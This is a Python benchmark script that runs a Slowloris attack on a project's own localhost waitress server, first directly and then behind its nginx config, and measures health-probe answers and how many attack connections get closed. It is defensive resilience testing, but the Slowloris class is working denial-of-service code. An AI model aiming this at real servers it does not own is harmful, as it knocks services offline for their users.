"""Slowloris against waitress directly, then through deploy/nginx.conf (issue 18.3).

    .venv/bin/python bench/slowloris.py                        # 150 connections, 60 s each
    .venv/bin/python bench/slowloris.py --connections 300 --duration 90 --only proxy

For each target (``direct``: ``python wsgi.py``'s own port; ``proxy``: the
same app behind a local nginx running the very file the compose files mount,
with only the listen port, the app's address and the /tmp/ paths replaced):

- ``--connections`` attackers each send a request line and then one header
  line every ``--interval`` seconds, never finishing the header; one whose
  connection is closed opens a new one at once;
- a real client sends GET /health every half second on a new connection,
  with a 5 s timeout, and counts what comes back.

Prints, per target, how many probes were answered and how fast, and how many
attack connections the server closed. Needs nginx (Debian: ``apt-get install
nginx-light``) for the proxy run.
"""

from __future__ import annotations

import argparse
import http.client
import os
import select
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))

import servers
from loadgen import percentile

ROOT = Path(__file__).resolve().parent.parent
NGINX_CONF = ROOT / "deploy" / "nginx.conf"
PROBE_TIMEOUT_S = 5.0
PROBE_EVERY_S = 0.5


class LocalNginx:
    """deploy/nginx.conf under a local nginx, in front of 127.0.0.1:app_port."""

    def __init__(self, app_port: int) -> None:
        self.port = servers.free_port()
        self.workdir = Path(tempfile.mkdtemp(prefix="nb-nginx-"))
        conf = render_nginx_conf(NGINX_CONF.read_text(), self.port, app_port, self.workdir)
        (self.workdir / "nginx.conf").write_text(conf)
        binary = shutil.which("nginx") or "/usr/sbin/nginx"
        self.log = open(self.workdir / "console.log", "wb")  # noqa: SIM115 (closed in stop)
        self.process = subprocess.Popen(
            [binary, "-c", str(self.workdir / "nginx.conf"), "-e", "stderr", "-g", "daemon off;"],
            stdout=self.log,
            stderr=self.log,
        )
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline:
            if self.process.poll() is not None:
                raise RuntimeError((self.workdir / "console.log").read_text())
            try:
                socket.create_connection((servers.HOST, self.port), timeout=1).close()
                return
            except OSError:
                time.sleep(0.05)
        raise RuntimeError("nginx did not listen")

    def stop(self) -> None:
        servers._stop(self.process)
        self.log.close()
        shutil.rmtree(self.workdir, ignore_errors=True)


def render_nginx_conf(text: str, port: int, app_port: int, workdir: Path) -> str:
    """The compose file's nginx.conf for this machine: each replaced piece
    must be there, so a change to the file can't silently skip one."""
    replacements = {
        "listen 8080;": f"listen {servers.HOST}:{port};",
        "http://api:8000": f"http://{servers.HOST}:{app_port}",
        "/tmp/": f"{workdir}/",
    }
    for old, new in replacements.items():
        assert old in text, f"{old!r} is gone from deploy/nginx.conf"
        text = text.replace(old, new)
    return text


class Slowloris:
    """``count`` connections that never finish their header. One thread:
    opens them, sends a header line to each every ``interval`` seconds, and
    reopens any the server closed."""

    def __init__(self, port: int, count: int, interval: float) -> None:
        self.port = port
        self.count = count
        self.interval = interval
        self.closed_by_server = 0
        self.open_failures = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def _open(self) -> socket.socket | None:
        try:
            sock = socket.create_connection((servers.HOST, self.port), timeout=2)
            sock.sendall(b"GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow-0: 0\r\n")
            sock.setblocking(False)
            return sock
        except OSError:
            self.open_failures += 1
            return None

    def _run(self) -> None:
        socks = [s for s in (self._open() for _ in range(self.count)) if s]
        line = 0
        while not self._stop.wait(self.interval):
            line += 1
            # A closed connection reads as end-of-file (or a 408 then EOF).
            readable, _, _ = select.select(socks, [], [], 0) if socks else ([], [], [])
            alive = []
            for sock in socks:
                dead = False
                if sock in readable:
                    try:
                        while sock.recv(65536):
                            pass
                        dead = True
                    except BlockingIOError:
                        pass
                    except OSError:
                        dead = True
                if not dead:
                    try:
                        sock.send(f"X-Slow-{line}: {line}\r\n".encode())
                    except OSError:
                        dead = True
                if dead:
                    self.closed_by_server += 1
                    sock.close()
                    replacement = self._open()
                    if replacement:
                        alive.append(replacement)
                else:
                    alive.append(sock)
            while len(alive) < self.count and not self._stop.is_set():
                extra = self._open()
                if extra is None:
                    break
                alive.append(extra)
            socks = alive
        for sock in socks:
            sock.close()

    def __enter__(self) -> Slowloris:
        self._thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self._stop.set()
        self._thread.join(timeout=30)


def probe(port: int) -> tuple[bool, float]:
    started = time.monotonic()
    conn = http.client.HTTPConnection(servers.HOST, port, timeout=PROBE_TIMEOUT_S)
    try:
        conn.request("GET", "/health")
        ok = conn.getresponse().status == 200
    except OSError:
        ok = False
    finally:
        conn.close()
    return ok, time.monotonic() - started


def attack(port: int, args) -> dict:
    results: list[tuple[float, bool, float]] = []
    with Slowloris(port, args.connections, args.interval) as slow:
        time.sleep(min(2.0, args.duration / 4))  # let the connections open
        started = time.monotonic()
        while time.monotonic() - started < args.duration:
            ok, latency = probe(port)
            results.append((time.monotonic() - started, ok, latency))
            time.sleep(max(0.0, PROBE_EVERY_S - latency))
    answered = [latency * 1000 for _, ok, latency in results if ok]
    return {
        "probes": len(results),
        "answered": len(answered),
        "p50_ms": percentile(answered, 50),
        "p99_ms": percentile(answered, 99),
        "closed_by_server": slow.closed_by_server,
        "open_failures": slow.open_failures,
    }


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--connections", type=int, default=150)
    parser.add_argument("--interval", type=float, default=10.0, help="seconds between lines")
    parser.add_argument("--duration", type=float, default=60.0, help="seconds of probing")
    parser.add_argument("--only", choices=("direct", "proxy"))
    args = parser.parse_args()
    os.environ.setdefault("PYTHONUNBUFFERED", "1")

    figures = {}
    for target in ("direct", "proxy"):
        if args.only and target != args.only:
            continue
        # Behind the proxy the app trusts exactly that one hop, as in the compose file.
        env = {"GENAI_PROVIDER": "offline"}
        if target == "proxy":
            env["TRUSTED_PROXY_COUNT"] = "1"
        with servers.App(env=env) as app:
            proxy = LocalNginx(app.port) if target == "proxy" else None
            try:
                port = proxy.port if proxy else app.port
                print(
                    f"{target}: {args.connections} slow connections on port {port} ...", flush=True
                )
                figures[target] = attack(port, args)
            finally:
                if proxy:
                    proxy.stop()
    print(
        f"\n{args.connections} connections, a header line every {args.interval:g} s; "
        f"GET /health every {PROBE_EVERY_S:g} s for {args.duration:g} s ({PROBE_TIMEOUT_S:g} s timeout)"
    )
    print(f"{'target':8} {'answered':>12} {'p50 ms':>8} {'p99 ms':>8} {'attack conns closed':>20}")
    for target, f in figures.items():
        print(
            f"{target:8} {f['answered']:5}/{f['probes']:<6} {f['p50_ms']:8.1f} {f['p99_ms']:8.1f} "
            f"{f['closed_by_server']:20}"
        )
        print(
            f"FIGURE slowloris_{target}: connections={args.connections} probes={f['probes']} "
            f"answered={f['answered']} p99_ms={f['p99_ms']:.1f} closed={f['closed_by_server']}"
        )
    return 0


if __name__ == "__main__":
    sys.exit(main())
